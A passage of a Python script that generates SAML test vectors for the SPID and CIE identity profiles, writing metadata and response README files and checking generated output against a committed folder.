    readme = "\n".join(lines)

    md = [
        f"# {out.folder}/metadata",
        "",
        f"The trusted IdP metadata of the `{out.kind}` vectors, unsigned on purpose (a vector's trust list is configuration). Generated by `../../saml-generator/generate.py`; never edited by hand. One line per file:",
        "",
    ]
    for rel, (data, desc) in out.files.items():
        if rel.startswith("metadata/"):
            md.append(f"- `{rel[9:]}` ({len(data)} bytes): {desc}. Used by {', '.join(used.get(rel, [])) or 'no vector file'}.")
    md += [
        "",
        "## Certificates",
        "",
        "Self-signed, built by the generator from the committed keys in `../../keys/` (fixed serials and dates; keys in metadata are bare keys, their dates are not checked):",
        "",
    ]
    names = (
        ["spid-idp", "spid-idp-renewed", "stranger", "spid-idp2", "spid-weak"]
        if out.profile == "spid"
        else ["cie-signing", "cie-encryption", "cie-aa", "cie-stranger"]
    )
    md += [cert_line(nm) for nm in names] + [""]

    rs = [
        f"# {out.folder}/responses",
        "",
        "The Responses of the vectors: `.xml` files are the documents, `.b64` files the HTTP-POST body as posted (base64 text). "
        "Generated by `../../saml-generator/generate.py`; never edited by hand. One line per file (size, what it is, the cases that use it):",
        "",
    ]
    for rel, (data, desc) in out.files.items():
        if rel.startswith("responses/"):
            rs.append(f"- `{rel[10:]}` ({len(data)} bytes): {desc}. Used by {', '.join(used.get(rel, [])) or 'no case directly'}.")
    rs.append("")
    return {"README.md": readme, "metadata/README.md": "\n".join(md), "responses/README.md": "\n".join(rs)}


# ------------------------------------------------------------------ main

SPID_CONTEXT = {
    "sp_entity_id": SP,
    "acs_url": ACS,
    "request_id": SPID_REQ,
    "min_level": "SpidL2",
    "comparison": "minimum",
    "request_issue_instant": SPID_REQ_II,
    "now": SPID_NOW,
    "clock_skew_seconds": 0,
    "input_encoding": "xml",
}
CIE_CONTEXT = {
    "sp_entity_id": SP,
    "acs_url": ACS,
    "request_id": CIE_REQ,
    "min_level": "SpidL3",
    "comparison": "exact",
    "request_issue_instant": CIE_REQ_II,
    "now": CIE_NOW,
    "clock_skew_seconds": 0,
    "input_encoding": "xml",
}


def make_outputs():
    init_keys()
    md = metadata_files()
    spid = Out("spid-saml", "spid", "spid", SPID_DEFAULTS, SPID_CONTEXT)
    for name in ("idp.xml", "idp2.xml", "registry.xml", "idp-rollover.xml", "idp-weak.xml"):
        spid.put("metadata/" + name, md[name][0].encode("utf-8"), md[name][1])
    spid_cases(spid)
    input_cases(spid)
    envelope_cases(spid)
    signature_cases(spid)
    response_cases(spid)
    assertion_cases(spid)
    text_cases(spid)
    time_cases(spid)
    level_cases(spid)
    cie = Out("cie-saml", "cie", "cie", CIE_DEFAULTS, CIE_CONTEXT)
    cie.put("metadata/cie-idp.xml", md["cie-idp.xml"][0].encode("utf-8"), md["cie-idp.xml"][1])
    cie_cases(cie)
    return [spid, cie]


def explain(out):
    for vf in out.vfiles:
        for g in vf.groups:
            for t in g.tests:
                code, step, why = t["_model"]
                print(
                    f"{out.folder}/{vf.name} {t['tcId']:3} {t['result']:10} {t.get('expectedError', ''):32} -> {code:32} {step:5} {why[:90]}"
                )


def write(out, root_dir, elapsed):
    folder = os.path.join(root_dir, out.folder)
    if os.path.isdir(folder):
        shutil.rmtree(folder)
    files = {rel: data for rel, (data, _) in out.files.items()}
    for vf in out.vfiles:
        files[vf.name] = vector_json(vf).encode("utf-8")
    for rel, text in readmes(out, elapsed).items():
        files[rel] = text.encode("utf-8")
    files[".gitattributes"] = GITATTRIBUTES.encode("utf-8")
    for rel, data in files.items():
        path = os.path.join(folder, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
    return files


def main():
    ap = argparse.ArgumentParser(description="Generate the spid-saml and cie-saml vectors of idbridge.")
    ap.add_argument("--out", default=VECTORS_DIR, help="the test-vectors folder to write spid/ and cie/ into (default: %(default)s)")
    ap.add_argument(
        "--check", action="store_true", help="generate into a temporary folder and compare with --out; exit 1 on any difference"
    )
    ap.add_argument("--explain", action="store_true", help="print, for every case, the model's outcome, the deciding step and its reason")
    args = ap.parse_args()
    start = time.monotonic()
    outs = make_outputs()
    bad = []
    for out in outs:
        problems, stats = self_check(out)
        bad += problems
        if args.explain:
            explain(out)
        n = sum(len(g.tests) for vf in out.vfiles for g in vf.groups)
        print(
            f"{out.folder}: {n} cases, {len(out.files)} input files; the model verified {stats['signatures']} signatures, {stats['premises']} wrapping premises"
        )
    for b in bad:
        print("SELF-CHECK:", b)
    if bad:
        print(f"{len(bad)} disagreements: nothing written")
        sys.exit(1)
    elapsed = 0.0  # the README does not record the run time: it must be reproducible
    if args.check:
        import tempfile

        with tempfile.TemporaryDirectory() as tmp:
            diff = []
            for out in outs:
                files = write(out, tmp, elapsed)
                have = set()
                base = os.path.join(args.out, out.folder)
                for dirpath, _, names in os.walk(base):
                    for nm in names:
                        have.add(os.path.relpath(os.path.join(dirpath, nm), base))
                for rel, data in files.items():
                    p = os.path.join(base, rel)
                    if not os.path.exists(p) or open(p, "rb").read() != data:
                        diff.append(f"{out.folder}/{rel}")
                diff += [f"{out.folder}/{rel} (extra)" for rel in sorted(have - set(files))]
            for d in diff:
                print("DIFFERS:", d)
            print(f"check: {len(diff)} differences ({time.monotonic() - start:.1f} s)")
            sys.exit(1 if diff else 0)
    for out in outs:
        write(out, args.out, elapsed)
    print(f"written to {args.out}/spid and {args.out}/cie in {time.monotonic() - start:.1f} s")


if __name__ == "__main__":
    main()
